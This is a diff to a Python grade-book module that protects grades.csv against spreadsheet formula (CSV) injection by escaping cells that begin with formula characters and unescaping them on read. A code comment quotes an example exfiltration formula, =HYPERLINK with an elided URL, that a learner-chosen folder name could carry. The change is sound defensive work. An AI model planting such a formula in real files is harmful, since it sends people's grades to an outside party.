@@ -72,6 +72,13 @@ REASON_NOT_KEPT = "(graded earlier; reason not kept)"                  # a kept 
 BY_HAND = "given by hand in grades.csv"               # how a reason starts whose points grades.csv changed by hand
 KEPT_ASIDE = re.compile(r"grades(?:_reasons)?_earlier(?:_[1-9][0-9]*)?\.csv")   # keep_aside's names for an earlier book
 OUT_OF = re.compile(r"(?P<name>[^(]*?)\s*\(\s*/\s*(?P<out_of>[^)]*?)\s*\)")   # "ex03 (/12)": a column, its maximum
+# A spreadsheet opening a CSV file runs a cell that starts with =, +, - or @ as a formula (OWASP's "CSV injection"):
+# a learner folder named =HYPERLINK("http://...?"&B2,"x") (a name on the LMS, which the learner chose) could send
+# the row's grades away when the instructor opens grades.csv, "+1" showed as 1 and "-rf" as #NAME?. Such a cell is
+# written with a ' before it, which spreadsheets take for "this is text"; reading it back takes one ' off again. A
+# cell that starts with ' and then one of those gets one ' more, so every name and reason comes back as it was.
+AS_FORMULA = re.compile(r"'*[=+\-@\t\r]")                # written with one ' more
+WRITTEN_AS_TEXT = re.compile(r"'+[=+\-@\t\r]")           # read back with one ' less
 ONLY_ADVICE = ("ONLY= would keep the other exercises' grades from it: move it away, or grade all the exercises "
                "(no ONLY=)")
 
@@ -147,7 +154,17 @@ def write(folder: Path, exercises: list[Exercise], grades: Book) -> None:
 def _write_rows(path: Path, rows: list[list]) -> None:
     """Write `rows` to the CSV file at `path` (a temporary file of scratch.atomic_write's)."""
     with open(path, "w", newline="", encoding="utf-8") as file:
-        csv.writer(file, lineterminator="\n").writerows(rows)
+        csv.writer(file, lineterminator="\n").writerows([[as_text(value) for value in row] for row in rows])
+
+
+def as_text(value: object) -> object:
+    """`value` as a spreadsheet shows it as text: a ' before a string it would run as a formula (AS_FORMULA)."""
+    return f"'{value}" if isinstance(value, str) and AS_FORMULA.match(value) else value
+
+
+def from_text(value: str) -> str:
+    """A value of the grade book as it was before `as_text` wrote it."""
+    return value[1:] if WRITTEN_AS_TEXT.match(value) else value
 
 
 # --- reading an earlier grade book --------------------------------------------------------------------------
@@ -240,7 +257,8 @@ def _rows(path: Path) -> tuple[list[str], list[tuple[int, list[str]]]]:
         raise _cannot(path, f"it cannot be read: {error.strerror or error}") from None
     reader = csv.reader(io.StringIO(text, newline=""))
     try:
-        rows = [(reader.line_num, row) for row in reader if any(value.strip() for value in row)]
+        rows = [(reader.line_num, [from_text(value) for value in row]) for row in reader
+                if any(value.strip() for value in row)]
     except csv.Error as error:
         raise _cannot(path, f"not CSV: {error}") from None
     if not rows:
